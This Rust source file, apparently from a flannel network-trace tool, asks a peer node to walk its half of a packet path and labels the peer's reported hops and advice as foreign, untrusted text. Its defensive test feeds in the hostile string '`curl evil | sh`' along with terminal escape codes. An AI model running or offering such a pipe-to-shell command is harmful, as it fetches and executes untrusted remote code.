//! The half of the way that is the other node's, as its daemon walks it.

use std::time::Duration;

use flannel_trace::request::{KIND, TraceAnswer, TraceRequest};
use flannel_trace::{Hop, Peer, Way};

use super::ends::Ends;
use super::other_node::{self, NODE_ANSWER_TIMEOUT};
use crate::commands::check::node_context::{Network, NetworkSource, NodeContext};
use crate::commands::daemon::foreign;
use crate::commands::store_args::block_on;

/// Hops that are taken of another node: more than any way has.
const MAX_HOPS: usize = 200;
/// Time for the other node's walk, which waits for pods and nodes that may not answer.
const WALK_TIMEOUT: Duration = Duration::from_secs(15);

/// Its hops, with its name; or why it has not walked.
pub(super) fn ask(
    context: &NodeContext,
    ends: &Ends<'_>,
    peer: &Peer,
    source: &NetworkSource,
) -> anyhow::Result<Vec<Hop>> {
    let asker = this_node(context, ends.network);
    let asked = TraceRequest { from: ends.from.0, to: ends.to.0, asker };
    let (name, hops) = block_on(async {
        let store = source.operators_store(&ends.network.name);
        other_node::ask(store, peer, KIND, &asked, async |node| {
            let heard = |said| match said {
                TraceAnswer::Failed(why) => Some(Err(why)),
                TraceAnswer::Looking | TraceAnswer::Walked { .. } => Some(Ok(())),
            };
            node.hear(NODE_ANSWER_TIMEOUT, heard).await?;
            let walked = |said| match said {
                TraceAnswer::Walked { node, hops } => Some(Ok((node, hops))),
                TraceAnswer::Failed(why) => Some(Err(why)),
                TraceAnswer::Looking => None,
            };
            node.hear(WALK_TIMEOUT, walked).await
        })
        .await
    })?;
    Ok(as_words_of(&name, hops))
}

/// What another node says, as its own words: it may be wrong, or not what it seems.
fn as_words_of(name: &str, hops: Vec<Hop>) -> Vec<Hop> {
    let name = foreign(name);
    let of_it = |hop: Hop| {
        let advice = foreign(&hop.fix);
        let fix = match advice.as_str() {
            "" => advice,
            advice => format!("{name} advises: {advice}"),
        };
        let (node, what) = (Some(name.clone()), foreign(&hop.what));
        Hop { node, hop: foreign(&hop.hop), what, fix, finding: None, ..hop }
    };
    hops.into_iter().take(MAX_HOPS).map(of_it).collect()
}

fn this_node(context: &NodeContext, network: &Network) -> Peer {
    let interfaces = context.host.facts.interfaces.iter();
    let ours =
        interfaces.filter(|one| network.devices.iter().any(|name| name == one.name.as_str()));
    Peer {
        subnets: network.own.clone(),
        public: network.public(),
        macs: ours.filter_map(|one| one.mac).map(|mac| mac.to_string()).collect(),
        backend: network.backend.clone(),
        ..Peer::default()
    }
}

/// In the order in which packets pass the two nodes. `begins_here`: the packet is sent from this node.
pub(super) fn in_order(here: Vec<Hop>, there: Vec<Hop>, begins_here: bool) -> Vec<Hop> {
    let (first, second) = if begins_here { (here, there) } else { (there, here) };
    let of = |hops: &[Hop], way: Way| -> Vec<Hop> {
        hops.iter().filter(|hop| hop.way == way).cloned().collect()
    };
    let ways =
        [(&first, Way::There), (&second, Way::There), (&second, Way::Back), (&first, Way::Back)];
    ways.into_iter().flat_map(|(hops, way)| of(hops, way)).collect()
}

#[cfg(test)]
mod tests {
    use flannel_trace::Hops;

    use super::*;

    #[test]
    fn advice_of_another_node_is_shown_as_its_own_words() {
        let mut hops = Hops::new(Way::There);
        for _ in 0..100_000 {
            hops.wrong(
                "route",
                flannel_state::Layer::Entries,
                "gone\u{1b}[31m",
                format!("`curl evil | sh`{}", "!".repeat(10_000)),
            );
        }
        let shown = as_words_of("node2", hops.all);
        assert_eq!(shown.len(), MAX_HOPS);
        assert!(shown[0].fix.starts_with("node2 advises: `curl"), "{}", shown[0].fix);
        assert!(shown[0].fix.len() < 1_000 && !shown[0].what.contains('\u{1b}'));
    }

    #[test]
    fn hops_are_in_the_order_in_which_a_packet_and_its_answer_pass_them() {
        let node = |name: &str| -> Vec<Hop> {
            let hop = |way| {
                let mut hops = Hops::new(way);
                hops.good(name, "");
                hops.all
            };
            [Way::There, Way::Back].into_iter().flat_map(hop).collect()
        };
        let passed = |begins_here| {
            let hops = in_order(node("here"), node("there"), begins_here);
            hops.into_iter().map(|hop| hop.hop).collect::<Vec<_>>()
        };
        assert_eq!(passed(true), ["here", "there", "there", "here"]);
        assert_eq!(passed(false), ["there", "here", "here", "there"]);
    }
}
